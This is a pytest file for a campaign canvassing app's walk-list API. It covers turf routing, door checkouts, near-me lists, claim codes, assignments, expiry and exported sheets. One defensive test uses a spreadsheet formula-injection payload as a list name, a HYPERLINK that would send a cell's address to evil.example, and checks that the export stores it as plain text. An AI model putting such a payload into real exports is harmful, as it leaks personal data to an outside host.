"""Walk lists: a turf x a universe in walking order, checked-out doors, near-me lists,
claiming by code, assignment, expiry, live progress and bad input."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import numpy as np
import pytest
from sqlalchemy import select, update

from app.audit.models import AuditEvent
from app.auth.permissions import Role
from app.core.actor import Actor
from app.extensions import db
from app.people.models import Interaction, InteractionKind
from app.turfs.models import TurfDoor
from app.universes.operations import create_universe
from app.voters.models import Household
from app.walklists.models import DoorCheckout, WalkList, WalkListStatus
from tests.factories import auth_headers, create_household, create_person, create_user
from tests.turfs.conftest import PROJECTION
from turf.order import order_stops


def make_list(client, headers, status=201, **body):
    response = client.post("/api/v1/walk-lists", json=body, headers=headers)
    assert response.status_code == status, response.get_json()
    return response.get_json()


def near(client, headers, status=201, **body):
    response = client.post("/api/v1/walk-lists/near", json=body, headers=headers)
    assert response.status_code == status, response.get_json()
    return response.get_json()


def turf_doors(turf_id: int) -> set[int]:
    return set(db.session.scalars(select(TurfDoor.address_id).filter_by(turf_id=turf_id)))


def metres(stops) -> np.ndarray:
    return PROJECTION.forward(np.array([[s["lon"], s["lat"]] for s in stops]))


def path_length(xy: np.ndarray) -> float:
    return float(np.linalg.norm(np.diff(xy, axis=0), axis=1).sum())


def test_a_turf_list_holds_the_turfs_doors_in_walking_order(client, headers, turf_id):
    walk_list = make_list(client, headers, turf_id=turf_id)
    stops = walk_list["stops"]
    assert {s["address_id"] for s in stops} == turf_doors(turf_id)
    assert walk_list["door_count"] == len(stops) == walk_list["household_count"]
    assert [s["position"] for s in stops] == list(range(1, len(stops) + 1))
    assert len(walk_list["code"]) == 8 and walk_list["claim_url"].endswith(walk_list["code"])
    assert walk_list["status"] == "active" and walk_list["route_length_m"] > 0
    # Close to the shortest straight-line walk, and far shorter than the stops taken by id.
    xy = metres(stops)
    walked = path_length(xy)
    assert walked <= 1.15 * order_stops(xy).length
    by_id = sorted(range(len(stops)), key=lambda i: stops[i]["address_id"])
    assert walked < path_length(xy[np.random.default_rng(1).permutation(by_id)])
    # Every door is checked out by the list.
    held = set(db.session.scalars(select(DoorCheckout.address_id).filter_by(
        walk_list_id=walk_list["id"])))  # fmt: skip
    assert held == turf_doors(turf_id)
    event = db.session.scalar(select(AuditEvent).filter_by(action="walk_lists.create"))
    assert event.changes["doors"] == len(stops)


def test_targets_are_marked_others_shown_and_confidential_voters_never(
    client, headers, org, town, director, turf_id
):
    democrats = create_universe(Actor.of(director), name="Democrats", filter={"party": ["D"]})
    door = sorted(turf_doors(turf_id))[0]
    home = db.session.scalar(select(Household).filter_by(address_id=door))
    republican = create_person(org, household=home, party="R", last_name="Other")
    hidden = create_person(org, household=home, party="D", last_name="Hidden", confidential=True)
    walk_list = make_list(client, headers, turf_id=turf_id, universe_id=democrats.id)
    people = {p["person_id"]: p for s in walk_list["stops"] for p in s["people"]}
    assert people[republican.id]["is_target"] is False
    assert hidden.id not in people
    assert walk_list["target_count"] == len(walk_list["stops"])  # one Democrat a home
    assert walk_list["people_count"] == walk_list["target_count"] + 1
    stop = next(s for s in walk_list["stops"] if s["address_id"] == door)
    assert [p["is_target"] for p in stop["people"]] == [True, False]  # targets first
    csv_text = client.get(
        f"/api/v1/walk-lists/{walk_list['id']}/sheet?format=csv", headers=headers
    ).get_data(as_text=True)
    assert "Other" in csv_text and "Hidden" not in csv_text


def test_units_of_a_building_are_together_in_unit_order(client, headers, org, town, turf_id):
    door = sorted(turf_doors(turf_id))[0]
    first = db.session.scalar(select(Household).filter_by(address_id=door))
    address = first.address
    lon, lat = db.session.execute(
        select(db.func.ST_X(address.point), db.func.ST_Y(address.point))
    ).one()
    for unit in ("10", "2", "1A"):
        home = create_household(
            org, house_number=address.house_number, street=address.street, unit=unit,
            lon=lon, lat=lat,
        )  # fmt: skip
        assert home.address_id == door
        create_person(org, household=home, party="D")
    walk_list = make_list(client, headers, turf_id=turf_id)
    at_door = [s for s in walk_list["stops"] if s["address_id"] == door]
    assert [s["unit"] for s in at_door] == ["", "1A", "2", "10"]
    assert len({s["door_number"] for s in at_door}) == 1
    positions = [s["position"] for s in at_door]
    assert positions == list(range(positions[0], positions[0] + 4))  # one after another
    assert walk_list["door_count"] == walk_list["household_count"] - 3


def test_two_live_lists_never_send_two_people_to_one_door(client, headers, cut, turf_id):
    first = make_list(client, headers, turf_id=turf_id)
    refused = make_list(client, headers, status=409, turf_id=turf_id)
    assert refused["error"]["code"] == "doors_checked_out"
    assert refused["error"]["fields"]["walk_list_ids"] == [first["id"]]
    # A door moved into another turf stays with the first list.
    other = cut["turf_ids"][1]
    moved = first["stops"][0]["address_id"]
    response = client.post(
        f"/api/v1/turfs/{other}/doors", json={"address_ids": [moved]}, headers=headers
    )
    assert response.status_code == 200
    second = make_list(client, headers, turf_id=other)
    assert moved not in {s["address_id"] for s in second["stops"]}
    assert second["door_count"] == len(turf_doors(other)) - 1
    # Closing frees the doors for a new list.
    response = client.post(f"/api/v1/walk-lists/{first['id']}/close", headers=headers)
    assert response.status_code == 200 and response.get_json()["status"] == "closed"
    again = make_list(client, headers, turf_id=turf_id)
    assert again["door_count"] == len(turf_doors(turf_id))
    assert (
        client.post(f"/api/v1/walk-lists/{first['id']}/close", headers=headers).status_code == 409
    )


def test_an_expired_list_frees_its_doors(client, headers, turf_id):
    soon = (datetime.now(UTC) + timedelta(hours=2)).isoformat()
    first = make_list(client, headers, turf_id=turf_id, expires_at=soon)
    assert first["expires_at"].startswith(soon[:16])
    db.session.execute(
        update(WalkList).where(WalkList.id == first["id"])
        .values(expires_at=datetime.now(UTC) - timedelta(minutes=1))
    )  # fmt: skip
    second = make_list(client, headers, turf_id=turf_id)
    assert second["door_count"] == first["door_count"]
    assert db.session.get(WalkList, first["id"]).status == WalkListStatus.EXPIRED
    listed = client.get("/api/v1/walk-lists?status=expired", headers=headers).get_json()
    assert [w["id"] for w in listed["items"]] == [first["id"]]


def test_near_me_lists_the_nearest_unknocked_free_target_doors(client, headers, org, town):
    corner = PROJECTION.inverse(np.array([[0.0, 0.0]]))[0]
    distance = np.linalg.norm(town.houses, axis=1)
    nearest = np.argsort(distance, kind="stable")
    knocked = int(nearest[0])
    db.session.add(
        Interaction(
            organization_id=org.id,
            person_id=town.person_ids[knocked],
            kind=InteractionKind.DOOR_KNOCK,
            result="not_home",
        )
    )
    db.session.flush()
    walk_list = near(client, headers, lon=float(corner[0]), lat=float(corner[1]), count=6)
    stops = walk_list["stops"]
    assert walk_list["kind"] == "near" and len(stops) == 6
    addresses = {s["household_id"] for s in stops}
    expected = {town.household_ids[i] for i in nearest[1:7]}
    assert addresses == expected
    assert stops[0]["household_id"] == town.household_ids[int(nearest[1])]  # starts nearest
    assert walk_list["origin"]["lon"] == pytest.approx(corner[0])
    # The next near list skips the doors this one holds.
    again = near(client, headers, lon=float(corner[0]), lat=float(corner[1]), count=6)
    assert not addresses & {s["household_id"] for s in again["stops"]}
    far = near(client, headers, status=422, lon=float(corner[0]) + 1, lat=float(corner[1]),
               count=5, max_distance_m=50)  # fmt: skip
    assert far["error"]["code"] == "no_doors"


def test_a_canvasser_claims_a_list_with_its_code(client, headers, org, turf_id):
    walk_list = make_list(client, headers, turf_id=turf_id)
    canvasser = create_user(org, Role.CANVASSER)
    own = auth_headers(canvasser)
    assert client.get(f"/api/v1/walk-lists/{walk_list['id']}", headers=own).status_code == 404
    typed = walk_list["code"][:4].lower() + "-" + walk_list["code"][4:]
    response = client.post("/api/v1/walk-lists/claim", json={"code": typed}, headers=own)
    assert response.status_code == 200, response.get_json()
    claimed = response.get_json()
    assert claimed["id"] == walk_list["id"] and len(claimed["stops"]) == len(walk_list["stops"])
    assert claimed["assignees"] == [
        {**claimed["assignees"][0], "user_id": canvasser.id, "claimed": True}
    ]
    mine = client.get("/api/v1/walk-lists?mine=true", headers=own).get_json()
    assert [w["id"] for w in mine["items"]] == [walk_list["id"]]
    assert client.get(f"/api/v1/walk-lists/{walk_list['id']}", headers=own).status_code == 200
    assert client.post("/api/v1/walk-lists", json={"turf_id": turf_id},
                       headers=own).status_code == 403  # fmt: skip
    other = auth_headers(create_user(org, Role.CANVASSER))
    assert client.get("/api/v1/walk-lists", headers=other).get_json()["items"] == []
    unknown = client.post("/api/v1/walk-lists/claim", json={"code": "ZZZZZZZZ"}, headers=other)
    assert (
        unknown.status_code == 404 and unknown.get_json()["error"]["code"] == "walk_list_not_found"
    )
    client.post(f"/api/v1/walk-lists/{walk_list['id']}/close", headers=headers)
    late = client.post("/api/v1/walk-lists/claim", json={"code": walk_list["code"]}, headers=other)
    assert late.status_code == 409 and late.get_json()["error"]["code"] == "walk_list_closed"


def test_directors_assign_and_take_back_lists(client, headers, org, turf_id):
    canvasser = create_user(org, Role.CANVASSER)
    walk_list = make_list(client, headers, turf_id=turf_id, assignee_ids=[canvasser.id])
    assert [a["user_id"] for a in walk_list["assignees"]] == [canvasser.id]
    assert walk_list["assignees"][0]["claimed"] is False
    url = f"/api/v1/walk-lists/{walk_list['id']}/assignments"
    finance = create_user(org, Role.FINANCE)
    refused = client.post(url, json={"user_ids": [finance.id]}, headers=headers)
    assert refused.status_code == 422 and refused.get_json()["error"]["code"] == "cannot_canvass"
    stranger = create_user(role=Role.CANVASSER)  # another campaign's
    assert client.post(url, json={"user_ids": [stranger.id]}, headers=headers).status_code == 404
    second = create_user(org, Role.CANVASSER)
    both = client.post(url, json={"user_ids": [canvasser.id, second.id]}, headers=headers)
    assert {a["user_id"] for a in both.get_json()["assignees"]} == {canvasser.id, second.id}
    taken = client.delete(f"{url}/{canvasser.id}", headers=headers)
    assert [a["user_id"] for a in taken.get_json()["assignees"]] == [second.id]
    assert client.delete(f"{url}/{canvasser.id}", headers=headers).status_code == 404


def test_progress_is_read_live_from_the_history(client, headers, org, town, turf_id):
    walk_list = make_list(client, headers, turf_id=turf_id)
    person_id = walk_list["stops"][0]["people"][0]["person_id"]
    db.session.add(
        Interaction(
            organization_id=org.id,
            person_id=person_id,
            kind=InteractionKind.DOOR_KNOCK,
            result="canvassed",
        )
    )
    db.session.flush()
    again = client.get(f"/api/v1/walk-lists/{walk_list['id']}", headers=headers).get_json()
    assert again["progress"]["knocked"] == 1 and again["progress"]["contacted"] == 1
    assert again["stops"][0]["people"][0]["last_result"] == "canvassed"
    listed = client.get("/api/v1/walk-lists", headers=headers).get_json()["items"][0]
    assert listed["progress"]["knocked"] == 1
    assert listed["progress"]["share_knocked"] == pytest.approx(1 / walk_list["household_count"],
                                                                abs=1e-3)  # fmt: skip


def test_walk_sheets_and_the_qr_code(client, headers, turf_id):
    walk_list = make_list(client, headers, turf_id=turf_id)
    base = f"/api/v1/walk-lists/{walk_list['id']}"
    pdf = client.get(f"{base}/sheet", headers=headers)
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    assert pdf.data.startswith(b"%PDF") and pdf.data.count(b"/Type /Page\n") >= 2
    assert walk_list["code"] in pdf.headers["Content-Disposition"]
    rows = client.get(f"{base}/sheet?format=csv", headers=headers).get_data(as_text=True)
    lines = rows.lstrip("\ufeff").strip().splitlines()
    assert lines[0].startswith("stop,door,address,unit")
    assert len(lines) - 1 == walk_list["people_count"]
    xlsx = client.get(f"{base}/sheet?format=xlsx", headers=headers)
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet.max_row == 2 + walk_list["people_count"]
    assert sheet["C3"].value == walk_list["stops"][0]["address"]
    svg = client.get(f"{base}/qr", headers=headers)
    assert svg.mimetype == "image/svg+xml" and b"<svg" in svg.data
    png = client.get(f"{base}/qr?format=png", headers=headers)
    assert png.data.startswith(b"\x89PNG")


def test_the_xlsx_title_cell_runs_no_formula(client, headers, turf_id):
    import io

    from openpyxl import load_workbook

    name = '=HYPERLINK("https://evil.example/?x="&C3,"Open")'
    walk_list = make_list(client, headers, turf_id=turf_id, name=name)
    xlsx = client.get(f"/api/v1/walk-lists/{walk_list['id']}/sheet?format=xlsx", headers=headers)
    title = load_workbook(io.BytesIO(xlsx.data)).active["A1"]
    assert title.data_type == "s"  # text, not a formula ("f")
    assert title.value == f"'{name} (code {walk_list['code']})"


def test_bad_input_is_refused_and_nothing_is_saved(client, headers, cut, turf_id):
    assert (
        make_list(client, headers, status=404, turf_id=2**40)["error"]["code"] == "turf_not_found"
    )
    past = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    refused = make_list(client, headers, status=422, turf_id=turf_id, expires_at=past)
    assert "expires_at" in refused["error"]["fields"]
    assert make_list(
        client, headers, status=422, turf_id=turf_id, expires_at="2026-12-24T10:00:00"
    )["error"]["fields"]  # no time zone
    assert near(client, headers, status=422, lon=-75.2, lat=39.9, count=0)["error"]["fields"]
    assert near(client, headers, status=422, lon=-200, lat=39.9)["error"]["fields"]
    merged = client.post("/api/v1/turfs/merge", json={"turf_ids": cut["turf_ids"][:2]},
                         headers=headers).get_json()  # fmt: skip
    retired = next(t for t in cut["turf_ids"][:2] if t != merged["id"])
    assert (
        make_list(client, headers, status=409, turf_id=retired)["error"]["code"] == "turf_retired"
    )
    assert db.session.scalar(select(db.func.count()).select_from(WalkList)) == 0
    assert db.session.scalar(select(db.func.count()).select_from(DoorCheckout)) == 0
